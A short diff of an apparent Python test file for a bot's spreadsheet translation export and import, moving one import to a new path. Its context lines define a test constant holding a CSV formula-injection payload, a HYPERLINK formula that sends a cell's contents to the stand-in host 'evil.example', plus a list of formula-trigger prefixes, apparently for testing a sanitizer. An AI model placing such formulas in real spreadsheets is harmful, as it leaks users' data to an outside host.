@@ -20,7 +20,7 @@ from bot.conversation.check import slots_by_msgid
 from bot.core import csv_safe
 from bot.core.paths import project_root
 from bot.translation.spreadsheet import catalog_path, export_csv, import_csv
-from tests.harness import conversations
+from tests.support.harness import conversations
 
 EVIL = '=HYPERLINK("http://evil.example/leak?"&A1,"Click")'
 STARTS = ["=1+1", "+32 470", "-5", "@SUM(A1)", "\t=x", "\r=x"]
